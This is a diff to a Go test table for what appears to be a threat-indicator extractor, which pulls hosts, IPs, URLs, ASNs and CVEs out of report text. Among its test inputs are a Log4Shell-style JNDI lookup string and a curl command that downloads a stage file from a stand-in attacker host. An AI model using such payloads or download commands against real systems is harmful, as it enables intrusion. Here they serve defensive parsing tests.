@@ -55,7 +55,8 @@ func TestExtractFinds(t *testing.T) {
 		{"a block with bits after its length", "192.0.2.1/24", []string{"Address 192.0.2.1"}},
 		{"two addresses", "192.0.2.1/192.0.2.2 192.0.2.3-192.0.2.4", []string{"Address 192.0.2.1", "Address 192.0.2.2", "Address 192.0.2.3", "Address 192.0.2.4"}},
 		{"other schemes", "tcp://192.0.2.1:443 ${jndi:ldap://192.0.2.2:1389/a} xhttp://evil-site.com/", []string{"Address 192.0.2.1", "Address 192.0.2.2", "URL http://evil-site.com/"}},
-		{"a cut URL", "http://evil-site.com/abc... http://evil-site.net/abc[...] http://192.0.2.1/a…", []string{"Host evil-site.com", "Host evil-site.net", "Address 192.0.2.1"}},
+		{"a cut URL", "http://evil-site.com/abc... http://evil-site.net/abc[...] http://192.0.2.1/a… http://[2001:db8::1]:80/a... http://evil.example/…", []string{
+			"Host evil-site.com", "Host evil-site.net", "Address 192.0.2.1", "Address 2001:db8:0:0:0:0:0:1", "Host evil.example"}},
 		{"a sentence without a space", "on www.evil-site.com.The next", []string{"Host www.evil-site.com"}},
 		{"ASNs", "AS64496 ASN64497 ASN 64498 ASN: 64499 AS 64500", []string{"ASN ASN64496", "ASN ASN64497", "ASN ASN64498", "ASN ASN64499", "ASN ASN64500"}},
 		{"typographic hyphens", "CVE\u20112021\u201144228", []string{"Vulnerability CVE-2021-44228"}},
@@ -76,6 +77,8 @@ func TestExtractFinds(t *testing.T) {
 		{"a hyphen below a domain", "the xmail-verfo.evil.me of a letter", []string{"Host xmail-verfo.evil.me"}},
 		{"a URL with a placeholder", "https://api.evil-site.org/bot<TOKEN>/send http://192.0.2.1:443/login/<chacha20_path> http://evil-site.com/a<br>", []string{
 			"Host api.evil-site.org", "Address 192.0.2.1", "URL http://evil-site.com/a"}},
+		{"a URL in front of an element", "http://evil-site.com/a<details>http://evil-site.com/b<section>", []string{"URL http://evil-site.com/a", "URL http://evil-site.com/b"}},
+		{"a code block of one line", "```curl http://evil-site.com```\n```go\n// the site evil.app\n```\nthe site vile.app", []string{"URL http://evil-site.com", "Host vile.app"}},
 		{"arguments of commands", "`dig @ns1.evil.name k1.evil.rs`, `curl -so stage.zip evil.link/d/stage.zip`; ping -n 1 evil.watch", []string{
 			"Host ns1.evil.name", "Host k1.evil.rs", "Host evil.link", "Host evil.watch"}},
 		{"a row that says what it has", "| Value | Kind |\n|---|---|\n| evil.sh | domain |\n| `evil.link` | file name |\n", []string{"Host evil.sh"}},
